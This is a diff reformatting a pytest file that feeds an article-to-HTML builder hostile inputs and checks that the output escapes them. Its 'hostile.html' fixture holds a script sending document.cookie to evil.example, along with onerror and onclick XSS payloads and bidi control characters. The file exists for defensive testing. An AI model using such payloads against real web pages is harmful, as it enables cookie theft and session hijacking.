@@ -21,11 +21,13 @@ LONG = "超长文章\n\n" + "\n\n".join(f"这是第{i}段用来测试长度限�
 
 GOOD: dict[str, str | bytes] = {
     "good.txt": BODY,
-    "hostile.html": (f"<html><head><title>{HOSTILE_TITLE.replace('&', '&amp;').replace('<', '&lt;')}</title>"
-                     "<script>document.location='http://evil.example/'+document.cookie</script></head>"
-                     "<body onload=\"alert(1)\"><h1>标题</h1><p onclick=\"alert(2)\">第一段正文，<b>加粗</b>的文字。"
-                     "<img src=x onerror=alert(3)>第二句话。</p><p>第二段正文也很短。</p>"
-                     "<p>第三段正文。</p><script>alert(4)</script></body></html>"),
+    "hostile.html": (
+        f"<html><head><title>{HOSTILE_TITLE.replace('&', '&amp;').replace('<', '&lt;')}</title>"
+        "<script>document.location='http://evil.example/'+document.cookie</script></head>"
+        '<body onload="alert(1)"><h1>标题</h1><p onclick="alert(2)">第一段正文，<b>加粗</b>的文字。'
+        "<img src=x onerror=alert(3)>第二句话。</p><p>第二段正文也很短。</p>"
+        "<p>第三段正文。</p><script>alert(4)</script></body></html>"
+    ),
     "hostile-title.md": f"---\ntitle: {HOSTILE_TITLE}\n---\n正文只有一句话。\n",
     "bidi.txt": "控制\u202e字符\u200b标题\x07\n\n正文里有\u2066双向\u2069控制字符\u200d和零宽字符。\n",
     "emoji.txt": "表情和英文\n\n今天天气很好😀，我们去Apple Store买了一部iPhone。\n",
@@ -50,7 +52,10 @@ GOOD: dict[str, str | bytes] = {
 BAD: dict[str, tuple[str | bytes, str]] = {
     "empty.txt": ("", "empty"),
     "whitespace.txt": ("  \n\t \n", "empty"),
-    "garbage.txt": (os.urandom(4000).replace(b"\xff\xfe", b"ab").replace(b"\xfe\xff", b"ab").replace(b"\xef\xbb", b"ab"), "not a text file"),
+    "garbage.txt": (
+        os.urandom(4000).replace(b"\xff\xfe", b"ab").replace(b"\xfe\xff", b"ab").replace(b"\xef\xbb", b"ab"),
+        "not a text file",
+    ),
     "all-spam.txt": (SPAM, "junk"),
     "huge.txt": (LONG, "max_chars"),
     "unclosed.md": ("---\ntitle: 没有结束的头部\n\n正文。\n", "never closed"),
@@ -89,8 +94,11 @@ def _make_special(articles: Path) -> None:
 
 @pytest.fixture(scope="module")
 def hostile_show(tmp_path_factory, clip_cache):
-    root = make_show(tmp_path_factory.mktemp("hostile"), clip_cache,
-                     {**GOOD, **{name: content for name, (content, _) in BAD.items()}})
+    root = make_show(
+        tmp_path_factory.mktemp("hostile"),
+        clip_cache,
+        {**GOOD, **{name: content for name, (content, _) in BAD.items()}},
+    )
     _make_special(root / "articles")
     run, report = build(root)
     return root, run, report
@@ -109,7 +117,9 @@ def test_exit_code_and_no_traceback(hostile_show):
 
 def test_every_bad_article_gets_one_line_naming_it(hostile_show):
     _, _, report = hostile_show
-    failed = {e["error"].split(": ")[0].rsplit("/", 1)[-1]: e["error"] for e in report["episodes"] if e["status"] == "failed"}
+    failed = {
+        e["error"].split(": ")[0].rsplit("/", 1)[-1]: e["error"] for e in report["episodes"] if e["status"] == "failed"
+    }
     expected = {printable(name): reason for name, (_, reason) in [*BAD.items(), *SPECIAL.items()]}
     assert set(failed) == set(expected)
     for name, reason in expected.items():
@@ -151,7 +161,7 @@ def test_page_escapes_everything_hostile(hostile_show):
     assert len(pages) == len(GOOD) + 2
     for page in pages:
         html = page.read_text(encoding="utf-8")
-        assert "<script>alert" not in html and "onerror=" not in html and "onclick=\"alert" not in html
+        assert "<script>alert" not in html and "onerror=" not in html and 'onclick="alert' not in html
         assert "evil.example" not in html
         assert "\u202e" not in html and "\u200b" not in html and "\x07" not in html
 
